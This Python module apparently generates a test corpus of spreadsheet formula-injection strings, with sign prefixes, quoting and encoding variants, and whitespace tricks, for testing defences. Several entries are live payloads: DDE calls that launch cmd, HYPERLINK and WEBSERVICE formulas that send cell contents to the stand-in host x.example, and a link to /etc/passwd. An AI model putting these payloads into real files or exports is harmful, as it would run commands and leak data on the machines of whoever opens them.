"""Two hundred texts that a spreadsheet might run, or take for something else than they are."""

from __future__ import annotations

_CALLS = (
    "1+1",
    "SUM(A1:A9)",
    'HYPERLINK("http://x.example/?q="&A1,"点此")',
    'HYPERLINK("file:///etc/passwd")',
    "cmd|' /C calc'!A0",
    'DDE("cmd";"/C calc";"x")',
    'WEBSERVICE("http://x.example/"&A1)',
    'IMPORTXML("http://x.example/","//a")',
    "MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe'!''",
    "1+1+cmd|' /C calc'!A0",
    "A1",
    "NOW()",
    'INDIRECT("A1")',
    "2*3",
    "(1)",
    '"x"',
    "TRUE",
    "-1",
    "{1,2}",
    "'x'",
)
_SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
_QUOTED = (
    '"=1+1"',
    "'=1+1",
    "''=1+1",
    "‘=1+1",
    '""=1+1""',
    ";=1+1",
    ",=1+1",
    "|=1+1",
    "`=1+1`",
    '="=1+1"',
    '="00123"',
    '=""',
    "='x'!A1",
    "=[1]x!A1",
    "={=1+1}",
    "<r><t>=1+1</t></r>",
    "<f>1+1</f>",
    "&#61;1+1",
    "%3D1+1",
    "_x003D_1+1",
)
_PLAIN = (
    "=",
    "+",
    "-",
    "@",
    "'",
    "--",
    "==",
    "-=",
    "-1",
    "-1,000",
    "-1.5e3",
    "- 1",
    "-",
    "+86 10 1234",
    "-1-1",
    "-A",
)
_NUMBERS = ("1E5", "00123", "1/2", "3-4", "2026-05-01", "TRUE", "#N/A", "#REF!", "5%", "￥5")


def corpus() -> list[str]:
    """Return the texts, each once, none blank."""
    texts = [f"{sign}{call}" for sign in _SIGNS for call in _CALLS]
    texts += [*_QUOTED, *_PLAIN, *_NUMBERS]
    texts += [
        f"{blank}=1+1" for blank in (" ", "\t", "\r", "\n", "\r\n", "\u00a0", "\u3000", "\ufeff", "\u200b")
    ]
    return list(dict.fromkeys(texts))
